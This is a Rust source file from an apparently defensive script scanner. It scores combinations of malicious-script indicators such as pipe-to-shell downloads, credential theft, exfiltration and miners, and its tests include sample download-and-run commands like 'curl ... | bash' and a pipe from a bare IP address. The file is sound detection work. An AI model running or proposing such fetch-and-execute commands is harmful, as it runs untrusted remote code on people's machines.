//! The gravity of indicators taken together.

use super::catalogue::IDIOMS;
use super::{Class, Indicator, Level};

/// The level of the strongest combination. One class alone has the level of
/// its gravest indicator; two classes, of which one is at least medium, lift
/// each other. Everyday idioms lift nothing.
pub(super) fn strongest(indicators: &[Indicator]) -> Option<Level> {
    let alone = indicators.iter().map(|found| found.level).max()?;
    let grave: Vec<&Indicator> = indicators
        .iter()
        .filter(|found| found.level >= Level::Medium)
        .collect();
    let mut level = alone;
    for found in &grave {
        let joined = indicators
            .iter()
            .any(|other| other.class != found.class && !IDIOMS.contains(&other.name));
        let repeated = repeats(found.class)
            && grave
                .iter()
                .any(|other| other.class == found.class && fact(other.name) != fact(found.name));
        if joined || repeated {
            level = level.max(combined(found.class, found.level, indicators));
        }
    }
    Some(level)
}

/// The level a class reaches beside another.
fn combined(class: Class, level: Level, indicators: &[Indicator]) -> Level {
    match class {
        Class::ExecutionChannel | Class::Miner if level >= Level::High => Level::Critical,
        Class::CredentialTheft if uses_network(indicators) => Level::Critical,
        Class::Discovery => Level::Medium,
        _ => Level::High,
    }
}

/// Classes in which two different indicators are two facts; a reverse shell
/// has several marks that are one.
fn repeats(class: Class) -> bool {
    matches!(
        class,
        Class::DownloadAndRun | Class::Exfiltration | Class::Miner
    )
}

/// Several indicators may tell one fact, seen in the text and in the flow of
/// data.
fn fact(name: &'static str) -> &'static str {
    match name {
        "pipe-to-shell"
        | "shell-from-download"
        | "downloaded-file-run"
        | "runs-from-temporary-directory"
        | "download-made-executable" => "downloaded-content-run",
        "output-sent" | "file-post" | "credentials-sent" => "file-upload",
        other => other,
    }
}

/// Something leaves the machine.
fn uses_network(indicators: &[Indicator]) -> bool {
    indicators.iter().any(|found| {
        found.class == Class::ExecutionChannel
            || (found.class == Class::Exfiltration && !IDIOMS.contains(&found.name))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn level(found: &[(Class, &'static str, Level)]) -> Option<Level> {
        let indicators: Vec<Indicator> = found
            .iter()
            .map(|(class, name, level)| Indicator {
                class: *class,
                name,
                level: *level,
                layer: String::from("text"),
                line: 1,
                excerpt: String::new(),
            })
            .collect();
        strongest(&indicators)
    }

    #[test]
    fn alone_and_combined() {
        let download = (Class::DownloadAndRun, "pipe-to-shell", Level::Medium);
        let address = (Class::DownloadAndRun, "bare-address-url", Level::Medium);
        let cron = (Class::Persistence, "crontab", Level::Low);
        let proxy = (Class::DefenceEvasion, "proxy-variable", Level::Low);
        let theft = (
            Class::CredentialTheft,
            "instance-credentials",
            Level::Medium,
        );
        let sent = (Class::Exfiltration, "credentials-sent", Level::High);
        let miner = (Class::Miner, "miner-name", Level::High);
        assert_eq!(level(&[]), None);
        assert_eq!(level(&[cron, proxy]), Some(Level::Low));
        assert_eq!(level(&[download]), Some(Level::Medium));
        assert_eq!(level(&[download, proxy]), Some(Level::Medium));
        assert_eq!(level(&[download, cron]), Some(Level::High));
        assert_eq!(level(&[download, address]), Some(Level::High));
        assert_eq!(level(&[theft]), Some(Level::Medium));
        assert_eq!(level(&[theft, download]), Some(Level::High));
        assert_eq!(level(&[theft, sent]), Some(Level::Critical));
        assert_eq!(level(&[miner]), Some(Level::High));
        assert_eq!(level(&[miner, download]), Some(Level::Critical));
    }

    /// The level of a whole script, through the examiner.
    fn level_of(script: &str) -> Option<Level> {
        let limits = crate::script::Limits::default();
        crate::script::examine_text(script, &limits).level
    }

    #[test]
    fn one_download_that_runs_is_one_fact() {
        for script in [
            "curl -s https://files.example.com/setup.sh | bash",
            "wget -qO- https://files.example.com/setup.sh | sudo sh",
            "bash <(curl -s https://files.example.com/setup.sh)",
            "curl -so /tmp/x https://files.example.com/x && chmod +x /tmp/x && /tmp/x",
            "curl -o x.sh https://files.example.com/x.sh; sh x.sh",
        ] {
            assert_eq!(level_of(script), Some(Level::Medium), "{script}");
        }
        // Where it comes from is a fact of its own.
        let bare = "curl -s http://198.51.100.9/x | bash";
        assert_eq!(level_of(bare), Some(Level::High));
    }
}
